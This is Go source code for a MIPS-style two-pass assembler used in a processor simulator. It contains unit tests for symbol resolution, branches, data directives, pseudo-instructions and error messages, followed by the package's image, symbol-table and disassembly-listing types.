	val:	.word 7
		.text
	main:	la $a0, msg
		lw $t0, val
		sw $t0, val
		jr $ra
	`)
	if err != nil {
		t.Fatal(err)
	}
	if got := im.Symbols["msg"]; got != DataBase {
		t.Errorf("msg = %#x, want %#x", got, uint32(DataBase))
	}
	if got := im.Symbols["val"]; got != DataBase+4 {
		t.Errorf("val = %#x, want %#x", got, uint32(DataBase+4))
	}
	text := im.Segments[0].Data
	// la = lui $a0, hi; ori $a0, $a0, lo
	in0, _ := isa.Decode(binary.LittleEndian.Uint32(text[0:]))
	in1, _ := isa.Decode(binary.LittleEndian.Uint32(text[4:]))
	if in0.Op != isa.OpLUI || in0.Rt != isa.RegA0 || uint16(in0.Imm) != 0x1000 {
		t.Errorf("la hi = %+v", in0)
	}
	if in1.Op != isa.OpORI || in1.Rt != isa.RegA0 || in1.Rs != isa.RegA0 || in1.Imm != 0 {
		t.Errorf("la lo = %+v", in1)
	}
	// lw $t0, val = lui $at, 0x1000; lw $t0, 4($at)
	in2, _ := isa.Decode(binary.LittleEndian.Uint32(text[8:]))
	in3, _ := isa.Decode(binary.LittleEndian.Uint32(text[12:]))
	if in2.Op != isa.OpLUI || in2.Rt != isa.RegAT {
		t.Errorf("lw hi = %+v", in2)
	}
	if in3.Op != isa.OpLW || in3.Rt != isa.RegT0 || in3.Rs != isa.RegAT || in3.Imm != 4 {
		t.Errorf("lw lo = %+v", in3)
	}
}

func TestSymbolicAddressSignCompensation(t *testing.T) {
	// A symbol whose low half has bit 15 set requires hi+1 compensation.
	im, err := AssembleString(`
		.data
		.space 0x9000
	far:	.word 1
		.text
	main:	lw $t0, far
	`)
	if err != nil {
		t.Fatal(err)
	}
	text := im.Segments[0].Data
	in0, _ := isa.Decode(binary.LittleEndian.Uint32(text[0:]))
	in1, _ := isa.Decode(binary.LittleEndian.Uint32(text[4:]))
	// far = 0x10009000; lo = 0x9000 (negative as int16), hi must be 0x1001.
	if uint16(in0.Imm) != 0x1001 {
		t.Errorf("hi = %#x, want 0x1001", uint16(in0.Imm))
	}
	got := uint32(uint16(in0.Imm))<<16 + uint32(in1.Imm)
	if got != im.Symbols["far"] {
		t.Errorf("materialized %#x, want %#x", got, im.Symbols["far"])
	}
}

func TestBranchesAndJumps(t *testing.T) {
	ins := textWords(t, `
	loop:	beq $t0, $t1, done
		bne $t0, $zero, loop
		b loop
		beqz $v0, done
		bnez $v0, loop
		blez $a0, done
		bgez $a0, loop
		j loop
		jal loop
	done:	jr $ra
	`)
	// beq at 0: done is instr 9 (addr 36): off = (36-0-4)/4 = 8
	if ins[0].Op != isa.OpBEQ || ins[0].Imm != 8 {
		t.Errorf("beq = %+v", ins[0])
	}
	// bne at 4 -> loop(0): off = (0-4-4)/4 = -2
	if ins[1].Op != isa.OpBNE || ins[1].Imm != -2 {
		t.Errorf("bne = %+v", ins[1])
	}
	if ins[2].Op != isa.OpBEQ || ins[2].Rs != isa.RegZero || ins[2].Rt != isa.RegZero {
		t.Errorf("b = %+v", ins[2])
	}
	if ins[7].Op != isa.OpJ || ins[7].Target != TextBase>>2 {
		t.Errorf("j = %+v", ins[7])
	}
	if ins[8].Op != isa.OpJAL {
		t.Errorf("jal = %+v", ins[8])
	}
}

func TestCmpBranchExpansion(t *testing.T) {
	ins := textWords(t, `
	start:	bge $t0, $t1, start
		bltu $a0, $a1, start
	`)
	if ins[0].Op != isa.OpSLT || ins[0].Rd != isa.RegAT || ins[0].Rs != isa.RegT0 || ins[0].Rt != isa.RegT1 {
		t.Errorf("bge cmp = %+v", ins[0])
	}
	// branch at addr 4 -> start(0): off = (0-4-4)/4 = -2
	if ins[1].Op != isa.OpBEQ || ins[1].Rs != isa.RegAT || ins[1].Imm != -2 {
		t.Errorf("bge branch = %+v", ins[1])
	}
	if ins[2].Op != isa.OpSLTU {
		t.Errorf("bltu cmp = %+v", ins[2])
	}
	if ins[3].Op != isa.OpBNE || ins[3].Imm != -4 {
		t.Errorf("bltu branch = %+v", ins[3])
	}
}

func TestDataDirectives(t *testing.T) {
	im, err := AssembleString(`
		.data
	b1:	.byte 1, 2, 0xFF, 'a', '\n'
	h1:	.half 0x1234, -2
	w1:	.word 0xDEADBEEF, b1, w1+4
	s1:	.ascii "ab"
	s2:	.asciiz "c\x41\0d"
	sp:	.space 3
	al:	.align 2
	w2:	.word 1
	`)
	if err != nil {
		t.Fatal(err)
	}
	d := im.Segments[1].Data
	wantPrefix := []byte{1, 2, 0xFF, 'a', '\n'}
	for i, b := range wantPrefix {
		if d[i] != b {
			t.Errorf(".byte[%d] = %#x, want %#x", i, d[i], b)
		}
	}
	// .half aligns to 6.
	if got := binary.LittleEndian.Uint16(d[6:]); got != 0x1234 {
		t.Errorf(".half[0] = %#x", got)
	}
	if got := int16(binary.LittleEndian.Uint16(d[8:])); got != -2 {
		t.Errorf(".half[1] = %d", got)
	}
	// .word aligns to 12.
	if got := binary.LittleEndian.Uint32(d[12:]); got != 0xDEADBEEF {
		t.Errorf(".word[0] = %#x", got)
	}
	if got := binary.LittleEndian.Uint32(d[16:]); got != DataBase {
		t.Errorf(".word[1] (symbol) = %#x, want %#x", got, uint32(DataBase))
	}
	if got := binary.LittleEndian.Uint32(d[20:]); got != im.Symbols["w1"]+4 {
		t.Errorf(".word[2] (sym+off) = %#x", got)
	}
	if string(d[24:26]) != "ab" {
		t.Errorf(".ascii = %q", d[24:26])
	}
	if string(d[26:31]) != "cA\x00d\x00" {
		t.Errorf(".asciiz = %q", d[26:31])
	}
	// sp occupies 31..34; .align 2 pads to 36.
	if got := im.Symbols["w2"]; got != DataBase+36 {
		t.Errorf("w2 = %#x, want %#x", got, uint32(DataBase+36))
	}
	if im.DataEnd != DataBase+40 {
		t.Errorf("DataEnd = %#x, want %#x", im.DataEnd, uint32(DataBase+40))
	}
}

func TestEntryResolution(t *testing.T) {
	im, err := AssembleString(".text\nfoo: nop\nmain: nop\n")
	if err != nil {
		t.Fatal(err)
	}
	if im.Entry != im.Symbols["main"] {
		t.Errorf("Entry = %#x, want main", im.Entry)
	}
	im, err = AssembleString(".text\n_start: nop\nmain: nop\n")
	if err != nil {
		t.Fatal(err)
	}
	if im.Entry != im.Symbols["_start"] {
		t.Errorf("Entry = %#x, want _start", im.Entry)
	}
	im, err = AssembleString(".entry foo\n.text\nfoo: nop\nmain: nop\n")
	if err != nil {
		t.Fatal(err)
	}
	if im.Entry != im.Symbols["foo"] {
		t.Errorf("Entry = %#x, want foo", im.Entry)
	}
}

func TestMultiSourceLink(t *testing.T) {
	im, err := Assemble(
		Source{Name: "a.s", Text: ".text\nmain: jal helper\n jr $ra\n"},
		Source{Name: "b.s", Text: ".text\nhelper: jr $ra\n.data\nshared: .word 9\n"},
	)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := im.Symbols["helper"]; !ok {
		t.Error("helper not in symbol table")
	}
	ins, _ := isa.Decode(binary.LittleEndian.Uint32(im.Segments[0].Data))
	if got := isa.JumpTarget(TextBase, ins); got != im.Symbols["helper"] {
		t.Errorf("jal target = %#x, want %#x", got, im.Symbols["helper"])
	}
}

func TestErrors(t *testing.T) {
	cases := []struct {
		src  string
		frag string
	}{
		{"bogus $t0", "unknown mnemonic"},
		{".text\nlw $t0, nosuch\n", "undefined symbol"},
		{"dup: nop\ndup: nop\n", "redefined"},
		{"add $t0, $t1\n", "wants 3 operands"},
		{"add $t0, $t1, $t9x\n", "bad register"},
		{".data\nx: .word\n", ".word wants values"},
		{".data\n.byte 999\n", "out of range"},
		{".data\n.half 100000\n", "out of range"},
		{"addi $t0, $t1, 70000\n", "out of 16-bit range"},
		{"sll $t0, $t1, 32\n", "bad shift amount"},
		{".data\nx: .ascii bad\n", "bad string literal"},
		{"1bad: nop\n", "invalid label"},
		{".entry nothere\nmain: nop\n", "undefined"},
		{".frobnicate 2\n", "unknown directive"},
		{"lw $t0, 99999($sp)\n", "offset 99999 out of range"},
		{".data\ninstr_in_data: add $t0,$t0,$t0\n", "outside .text"},
	}
	for _, c := range cases {
		_, err := AssembleString(c.src)
		if err == nil {
			t.Errorf("assembling %q succeeded, want error containing %q", c.src, c.frag)
			continue
		}
		if !strings.Contains(err.Error(), c.frag) {
			t.Errorf("error for %q = %q, want substring %q", c.src, err, c.frag)
		}
	}
}

func TestErrorHasPosition(t *testing.T) {
	_, err := Assemble(Source{Name: "prog.s", Text: "nop\nnop\nbogus\n"})
	if err == nil {
		t.Fatal("no error")
	}
	var ae *Error
	if !strings.HasPrefix(err.Error(), "prog.s:3:") {
		t.Errorf("error = %q, want prog.s:3: prefix", err)
	}
	_ = ae
}

func TestSymbolAt(t *testing.T) {
	im, err := AssembleString(`
	.text
	main:	nop
		nop
	helper:	nop
	`)
	if err != nil {
		t.Fatal(err)
	}
	name, off := im.SymbolAt(im.Symbols["main"] + 4)
	if name != "main" || off != 4 {
		t.Errorf("SymbolAt(main+4) = %q+%d", name, off)
	}
	name, off = im.SymbolAt(im.Symbols["helper"])
	if name != "helper" || off != 0 {
		t.Errorf("SymbolAt(helper) = %q+%d", name, off)
	}
	if name, _ := im.SymbolAt(0); name != "" {
		t.Errorf("SymbolAt(0) = %q, want none", name)
	}
}

func TestSortedSymbols(t *testing.T) {
	im, err := AssembleString(".text\nzz: nop\naa: nop\n")
	if err != nil {
		t.Fatal(err)
	}
	syms := im.SortedSymbols()
	if len(syms) != 2 || syms[0].Name != "zz" || syms[1].Name != "aa" {
		t.Errorf("SortedSymbols = %+v", syms)
	}
}

func TestCommentsAndFormatting(t *testing.T) {
	ins := textWords(t, `
	# full line comment
	main: nop # trailing
		li $t0, '#'   ; char containing comment marker
		nop ; semicolon comment
	`)
	if len(ins) != 3 {
		t.Fatalf("got %d instructions, want 3", len(ins))
	}
	if ins[1].Op != isa.OpORI || ins[1].Imm != '#' {
		t.Errorf("li '#' = %+v", ins[1])
	}
}

func TestMultipleLabelsOneLine(t *testing.T) {
	im, err := AssembleString(".text\na: b: c: nop\n")
	if err != nil {
		t.Fatal(err)
	}
	if im.Symbols["a"] != im.Symbols["b"] || im.Symbols["b"] != im.Symbols["c"] {
		t.Error("stacked labels differ")
	}
}

func TestJalrForms(t *testing.T) {
	ins := textWords(t, "jalr $t9\njalr $s0, $t8\n")
	if ins[0].Op != isa.OpJALR || ins[0].Rd != isa.RegRA || ins[0].Rs != isa.RegT9 {
		t.Errorf("jalr one-op = %+v", ins[0])
	}
	if ins[1].Op != isa.OpJALR || ins[1].Rd != isa.RegS0 || ins[1].Rs != isa.RegT8 {
		t.Errorf("jalr two-op = %+v", ins[1])
	}
}

func TestPseudoOps(t *testing.T) {
	ins := textWords(t, `
		move $t0, $t1
		neg $t2, $t3
		not $t4, $t5
		seqz $t6, $t7
		snez $s0, $s1
	`)
	want := []isa.Instruction{
		{Op: isa.OpADDU, Rd: isa.RegT0, Rs: isa.RegT1, Rt: isa.RegZero},
		{Op: isa.OpSUB, Rd: isa.RegT2, Rs: isa.RegZero, Rt: isa.RegT3},
		{Op: isa.OpNOR, Rd: isa.RegT4, Rs: isa.RegT5, Rt: isa.RegZero},
		{Op: isa.OpSLTIU, Rt: isa.RegT6, Rs: isa.RegT7, Imm: 1},
		{Op: isa.OpSLTU, Rd: isa.RegS0, Rs: isa.RegZero, Rt: isa.RegS1},
	}
	for i := range want {
		if ins[i] != want[i] {
			t.Errorf("instr %d = %+v, want %+v", i, ins[i], want[i])
		}
	}
}

func TestMemOperandForms(t *testing.T) {
	ins := textWords(t, `
		lw $t0, ($sp)
		lb $t1, -1($fp)
		sh $t2, 0x10($gp)
	`)
	if ins[0].Op != isa.OpLW || ins[0].Imm != 0 || ins[0].Rs != isa.RegSP {
		t.Errorf("lw ($sp) = %+v", ins[0])
	}
	if ins[1].Op != isa.OpLB || ins[1].Imm != -1 || ins[1].Rs != isa.RegFP {
		t.Errorf("lb -1($fp) = %+v", ins[1])
	}
	if ins[2].Op != isa.OpSH || ins[2].Imm != 16 || ins[2].Rs != isa.RegGP {
		t.Errorf("sh 0x10($gp) = %+v", ins[2])
	}
}

func TestTextListing(t *testing.T) {
	im, err := AssembleString(".text\nmain:\n\tnop\n\tlw $ra, 4($sp)\n\tjr $ra\n")
	if err != nil {
		t.Fatal(err)
	}
	lines := im.TextListing()
	if len(lines) != 3 {
		t.Fatalf("listing has %d lines", len(lines))
	}
	if !strings.Contains(lines[1], "lw $ra,4($sp)") {
		t.Errorf("line 2 = %q", lines[1])
	}
	if !strings.HasPrefix(lines[0], "00400000:") {
		t.Errorf("line 1 = %q", lines[0])
	}
	if (&Image{}).TextListing() != nil {
		t.Error("empty image produced a listing")
	}
}

func TestMoreAsmErrors(t *testing.T) {
	cases := []struct{ src, frag string }{
		{"jalr $t0, $t1, $t2\n", "jalr wants 1 or 2"},
		{".align x\n", "bad .align"},
		{".globl\n", "wants one symbol"},
		{".entry\n", ".entry wants one symbol"},
		{".data\n.ascii \"a\" \"b\"\n", "bad string literal"},
		{".data\n.space -1\n", ".space wants a byte count"},
		{"main: lw $t0, main\njr $ra\n", ""}, // symbolic load of a text label is fine
		{"j 0x50000001\n", "not word-aligned"},
		{".data\nw: .word nosuch+4\n", "undefined symbol"},
		{".data\nw: .word w+z\n", "bad offset"},
		{"beq $t0, $t1\n", "wants 3 operands"},
		{"li $t0\n", "li wants rd, imm"},
		{"li $t0, nonnumeric\n", "li immediate"},
	}
	for _, c := range cases {
		_, err := AssembleString(c.src)
		if c.frag == "" {
			if err != nil {
				t.Errorf("assembling %q failed: %v", c.src, err)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), c.frag) {
			t.Errorf("assembling %q: err = %v, want %q", c.src, err, c.frag)
		}
	}
}

func TestMustEncodePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustEncode did not panic on an invalid instruction")
		}
	}()
	isa.MustEncode(isa.Instruction{})
}
