// Package asm implements a two-pass assembler for the simulator's ISA. It
// supports the classic MIPS-style source format: .text/.data sections,
// labels, data directives (.word/.half/.byte/.ascii/.asciiz/.space/.align),
// pseudo-instructions (li/la/move/b/beqz/...), and symbolic operands. The
// output is a loadable Image with a symbol table used by the CPU's alert
// reporter to attribute detections to functions (e.g. "sw $21,0($3) in
// vfprintf", as in the paper's Table 2).
package asm

import (
	"encoding/binary"
	"fmt"
	"sort"

	"repro/internal/isa"
)

// Default segment layout, mirroring the MIPS/SimpleScalar convention the
// paper's addresses come from (text around 0x004xxxxx, data at 0x100xxxxx).
const (
	TextBase  = 0x00400000
	DataBase  = 0x10000000
	StackTop  = 0x7FFFF000 // initial $sp; stack grows down
	StackSize = 1 << 20    // reserved stack region for layout queries
)

// Segment is one contiguous run of initialized memory in an image.
type Segment struct {
	Addr uint32
	Data []byte
}

// Image is a fully linked, loadable program.
type Image struct {
	Segments []Segment
	Symbols  map[string]uint32
	Entry    uint32
	// DataEnd is the first address past the data segment; the kernel
	// places the program break (heap start) here.
	DataEnd uint32
}

// SymbolAt resolves addr to the nearest preceding symbol, returning its
// name and the offset of addr within it. Used for human-readable alerts.
func (im *Image) SymbolAt(addr uint32) (string, uint32) {
	bestName, bestAddr, found := "", uint32(0), false
	for name, a := range im.Symbols {
		if len(name) > 0 && name[0] == '.' {
			continue // compiler-internal label
		}
		if a <= addr && (!found || a > bestAddr || (a == bestAddr && name < bestName)) {
			bestName, bestAddr, found = name, a, true
		}
	}
	if !found {
		return "", addr
	}
	return bestName, addr - bestAddr
}

// SortedSymbols returns the symbol table as (name, addr) pairs in address
// order, for listings.
func (im *Image) SortedSymbols() []SymbolEntry {
	out := make([]SymbolEntry, 0, len(im.Symbols))
	for n, a := range im.Symbols {
		out = append(out, SymbolEntry{Name: n, Addr: a})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Addr != out[j].Addr {
			return out[i].Addr < out[j].Addr
		}
		return out[i].Name < out[j].Name
	})
	return out
}

// SymbolEntry is one row of a symbol listing.
type SymbolEntry struct {
	Name string
	Addr uint32
}

// Error is an assembly diagnostic tied to a source position.
type Error struct {
	File string
	Line int
	Msg  string
}

// Error implements the error interface.
func (e *Error) Error() string {
	return fmt.Sprintf("%s:%d: %s", e.File, e.Line, e.Msg)
}

func errf(file string, line int, format string, args ...any) error {
	return &Error{File: file, Line: line, Msg: fmt.Sprintf(format, args...)}
}

// TextListing disassembles the text segment, returning one line per word:
// "00400000:  8fbf0004  lw $ra,4($sp)". Words that do not decode are
// rendered as data.
func (im *Image) TextListing() []string {
	if len(im.Segments) == 0 {
		return nil
	}
	text := im.Segments[0]
	out := make([]string, 0, len(text.Data)/4)
	for off := 0; off+4 <= len(text.Data); off += 4 {
		addr := text.Addr + uint32(off)
		word := binary.LittleEndian.Uint32(text.Data[off:])
		in, err := isa.Decode(word)
		if err != nil {
			out = append(out, fmt.Sprintf("%08x:  %08x  <data>", addr, word))
			continue
		}
		out = append(out, fmt.Sprintf("%08x:  %08x  %s", addr, word, isa.Disassemble(in, addr)))
	}
	return out
}
